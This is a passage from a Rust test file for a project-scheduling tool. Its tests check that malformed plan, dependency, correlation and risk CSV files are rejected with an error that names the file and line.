        "id,name,low,likely,high\na,Design,1,2,3\nb,Build, test, and, ship,1,2,3,x,y,z,w,v,u\n",
        None,
    ),
    // Lags that are not numbers.
    ("id,likely,depends_on\na,1,\nb,1,a+x\n", None),
    ("id,likely,depends_on\na,1,\nb,1,a-\n", None),
    // An edge that closes a cycle, and an unbalanced quote in an edges file.
    (
        "id,likely,depends_on\na,1,\nb,2,a\nc,3,b\n",
        Some("from,to\na,c\nc,a\n"),
    ),
    ("id,likely\na,1\nb,2\n", Some("from,to\n\"a,b\nb,\"a\n")),
    (
        "id,likely\na,1\nb,2\n",
        Some("from,to,type\na,b,FS,extra\n"),
    ),
];

/// Regression corpus of the plan reader: see `MALFORMED`.
#[test]
fn malformed_files_are_rejected_with_a_place() {
    for &(text, edges) in MALFORMED {
        let err = match parse_plan("plan.csv", text, edges.map(|e| ("edges.csv", e))) {
            Ok(plan) => panic!("accepted with {} tasks: {text:?}", plan.tasks.len()),
            Err(e) => e,
        };
        assert!(!err.problems().is_empty(), "{text:?}: {err}");
        for p in err.problems() {
            assert!(p.file == "plan.csv" || p.file == "edges.csv", "{p}");
            assert!(p.line.is_some_and(|l| l >= 1), "no line: {p}");
        }
    }
    // A long cycle: a short message, the whole cycle in the problem.
    let n = 2_000;
    let mut text = String::from("id,likely,depends_on\n");
    for i in 0..n {
        text.push_str(&format!("t{i},1,t{}\n", (i + n - 1) % n));
    }
    let err = parse_plan("plan.csv", &text, None).unwrap_err();
    let shown = err.to_string();
    assert!(shown.len() < 400, "{} characters: {shown}", shown.len());
}

/// Files that go with a plan (correlations, risks), with the reproducers of
/// their wrong readings: each must be rejected at a line of that file.
#[test]
fn malformed_side_files_are_rejected_with_a_place() {
    let plan = parse_plan("plan.csv", "id,likely,team\na,1,x\nb,1,x\nc,1,x\n", None).unwrap();
    let correlations = [
        // The same pair twice, in either order and with either value.
        "a,b,rho\na,b,0.5\nb,a,-0.3\n",
        "a,b,rho\na,b,0.5\na,b,0.5\n",
        // Out of range, and not a number.
        "a,b,rho\na,b,1.5\n",
        "a,b,rho\na,b,nan\n",
        // Quotes and extra cells.
        "a,b,rho\na,\"b,0.5\nb,\"c,0.5\n",
        "a,b,rho\na,b,0.5,0.7\n",
    ];
    for text in correlations {
        let err = parse_pairs("corr.csv", text, &plan).expect_err(text);
        for p in err.problems() {
            assert_eq!(p.file, "corr.csv", "{p}");
            assert!(p.line.is_some_and(|l| l >= 2), "{p}");
        }
    }
    // Correlations that cannot hold together name the file and last line.
    let pairs = parse_pairs("corr.csv", "a,b,rho\na,b,0.9\nb,c,0.9\na,c,-0.9\n", &plan).unwrap();
    let err = build_correlation(&plan, &[], &pairs).unwrap_err();
    assert_eq!(err.place(), Some(("corr.csv", 4)));
    let err = build_correlation(&plan, &[TeamRule::AllTeams(-0.9)], &[]).unwrap_err();
    assert!(
        err.to_string().starts_with("--correlate team=-0.9: "),
        "{err}"
    );

    let risks = [
        "id,probability,likely,affects\nr1,0.5,2,\"a\nr2,0.5,2,b\"\n",
        "id,probability,likely,affects\nr1,0.5,2,a,b\n",
    ];
    for text in risks {
        let err = parse_risks("risks.csv", text, &plan).expect_err(text);
        for p in err.problems() {
            assert_eq!(p.file, "risks.csv", "{p}");
            assert!(p.line.is_some_and(|l| l >= 2), "{p}");
        }
    }
}
